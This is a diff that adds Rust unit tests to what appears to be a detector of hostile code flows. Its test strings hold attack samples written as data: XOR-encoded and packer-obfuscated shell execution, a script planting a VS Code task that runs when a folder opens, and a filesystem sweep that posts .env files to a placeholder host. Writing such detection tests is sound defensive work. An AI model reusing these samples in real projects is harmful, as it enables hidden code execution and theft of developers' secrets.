@@ -232,3 +232,41 @@ fn the_scripting_host_speaks_its_own_language() {
         "flow-remote-code",
     );
 }
+
+#[test]
+fn bytes_are_changed_one_by_one() {
+    // "echo hi" under 7.
+    let code = "const b = Buffer.from('62646f68276f6e', 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 7; \
+                require('child_process').exec(b.toString())";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+    let code = "import os\nb = bytearray(bytes.fromhex('62646f68276f6e'))\nfor i in range(len(b)):\n    b[i] ^= 7\nos.system(b.decode())";
+    assert_eq!(command(Language::Python, code), "echo hi");
+}
+
+#[test]
+fn values_are_written_as_json() {
+    let code = "const fs = require('fs'); fs.writeFileSync('/x/.vscode/tasks.json', \
+                JSON.stringify({ tasks: [{ command: x, runOptions: { runOn: 'folderOpen' } }] }))";
+    has(Language::JavaScript, code, "flow-task-planted");
+    has_not(Language::JavaScript, &code.replace("folderOpen", "default"), "flow-task-planted");
+    let code = "import json\nopen('/x/.vscode/tasks.json', 'w').write(json.dumps({'tasks': [{'runOptions': {'runOn': 'folderOpen'}}]}))";
+    has(Language::Python, code, "flow-task-planted");
+    // A value that holds itself ends.
+    outcome(Language::JavaScript, "const a = [1]; a.push(a); fetch('https://h.invalid', { body: JSON.stringify(a) })");
+}
+
+#[test]
+fn words_of_a_packer_are_put_back() {
+    let code = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}\
+                ('0(\"1\").2(\"3 4\")',10,5,'require|child_process|exec|echo|hi'.split('|'),0,{}))";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+}
+
+#[test]
+fn settings_that_a_search_finds_are_sent() {
+    let code = "import os, requests\nout = {}\nfor r, d, f in os.walk('/'):\n    for n in f:\n        if n == '.env':\n\
+                \x20           out[n] = open(os.path.join(r, n)).read()\nrequests.post('https://h.invalid/u', json=out)";
+    has(Language::Python, code, "flow-credentials-sent");
+    has_not(Language::Python, &code.replace("'.env'", "'.txt'"), "flow-credentials-sent");
+    has_not(Language::Python, &code.replace("https://h.invalid", "http://localhost"), "flow-credentials-sent");
+}
